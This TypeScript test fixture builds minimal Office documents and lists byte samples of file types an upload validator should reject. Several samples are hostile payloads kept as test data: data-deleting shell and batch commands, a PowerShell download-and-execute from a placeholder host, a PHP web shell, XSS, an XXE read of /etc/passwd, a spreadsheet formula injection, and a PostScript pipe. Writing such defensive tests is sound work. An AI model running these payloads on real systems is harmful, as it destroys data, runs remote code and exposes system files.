import { deflateRawSync, gzipSync } from 'node:zlib'
import { oleFile } from '../../server/src/features/documents/testing/ole-file.ts'
import { type Entry, zipFile } from '../../server/src/features/documents/testing/zip-file.ts'

export type OfficeKind = 'docx' | 'xlsx' | 'pptx'

const main = {
  docx: ['word/document.xml', 'wordprocessingml.document'],
  xlsx: ['xl/workbook.xml', 'spreadsheetml.sheet'],
  pptx: ['ppt/presentation.xml', 'presentationml.presentation'],
} as const
const space = 'http://schemas.openxmlformats.org/package/2006'

/** The content types of an office document, as Word writes them. `more` adds unusual ones. */
export function contentTypes(kind: OfficeKind, more = ''): Entry {
  const [part, type] = main[kind]
  const own = `<Override PartName="/${part}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/>`
  const usual =
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
  const content = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Types xmlns="${space}/content-types">${usual}${own}${more}</Types>`
  return { name: '[Content_Types].xml', content }
}

/** The parts of an office document. The main one is the last. */
export function office(kind: OfficeKind): Entry[] {
  const [part] = main[kind]
  return [
    contentTypes(kind),
    { name: '_rels/.rels', content: `<Relationships xmlns="${space}/relationships"/>` },
    { name: part, content: '<?xml version="1.0"?><root/>' },
  ]
}

const text = (words: string) => Buffer.from(words)
const bytes = (words: string, length = 600) => Buffer.concat([Buffer.from(words, 'latin1')], length)

/** The first bytes of kinds that are not accepted: enough for programs to run or show them. */
export const foreign: Record<string, Buffer> = {
  'a program for Windows': bytes('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff'),
  'a program for Linux': bytes('\x7fELF\x02\x01\x01'),
  'a program for macOS': bytes('\xcf\xfa\xed\xfe\x07\0\0\x01'),
  'a class of Java': bytes('\xca\xfe\xba\xbe\0\0\0\x34'),
  WebAssembly: bytes('\0asm\x01\0\0\0'),
  'a shortcut': bytes('L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F'),
  'a shell script': text('#!/bin/sh\nrm -rf ~\n'),
  'a batch file': text('@echo off\r\ndel /q *.*\r\n'),
  PowerShell: text('Invoke-WebRequest http://boos.example | Invoke-Expression'),
  PHP: text('<?php system($_GET["c"]);'),
  'a web page': text('<!doctype html><script>alert(1)</script>'),
  'an application of Windows': text('<HTA:APPLICATION><script language="VBScript">x</script>'),
  SVG: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  'XML with an entity': text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
  'a mail': text('From: boos@boos.example\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\n<script>x</script>'),
  RTF: text('{\\rtf1\\ansi{\\object\\objocx}}'),
  PostScript: text('%!PS-Adobe-3.0\n(%pipe%id) (w) file'),
  'a list': text('=cmd|"/c calc"!A1;2;3\n'),
  ZIP: zipFile([{ name: 'boos.exe', content: 'MZ' }]),
  JAR: zipFile([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: Boos' }]),
  APK: zipFile([{ name: 'AndroidManifest.xml', content: 'x' }]),
  'a book': zipFile([{ name: 'mimetype', content: 'application/epub+zip', stored: true }, { name: 'content.xml' }]),
  'a drawing of Visio': zipFile([{ name: '[Content_Types].xml' }, { name: 'visio/document.xml' }]),
  'a binary workbook': zipFile([{ name: '[Content_Types].xml' }, { name: 'xl/workbook.bin' }]),
  RAR: bytes('Rar!\x1a\x07\x01\0'),
  '7z': bytes("7z\xbc\xaf'\x1c\0\x04"),
  gzip: gzipSync('boos'),
  'raw deflate': deflateRawSync('boos'),
  tar: bytes(`boos${'\0'.repeat(253)}ustar`),
  'a disk image': bytes(`${'\0'.repeat(512)}CD001`, 2048),
  CAB: bytes('MSCF\0\0\0\0'),
  'an installer': oleFile(['!_StringPool', '!_Tables']),
  'a mail of Outlook': oleFile(['__properties_version1.0']),
  GIF: bytes('GIF89a\x01\0\x01\0'),
  BMP: bytes('BM\x3a\0\0\0'),
  TIFF: bytes('II*\0\x08\0\0\0'),
  icon: bytes('\0\0\x01\0\x01\0'),
  AVIF: bytes('\0\0\0\x1cftypavif\0\0\0\0mif1avifmiaf', 28),
  MP4: bytes('\0\0\0\x18ftypisom\0\0\0\0isommp42'),
  MP3: bytes('ID3\x03\0'),
  Flash: bytes('CWS\x0a'),
  SQLite: bytes('SQLite format 3\0'),
  zeros: Buffer.alloc(600),
  'a single byte': Buffer.alloc(1, 0x25),
}
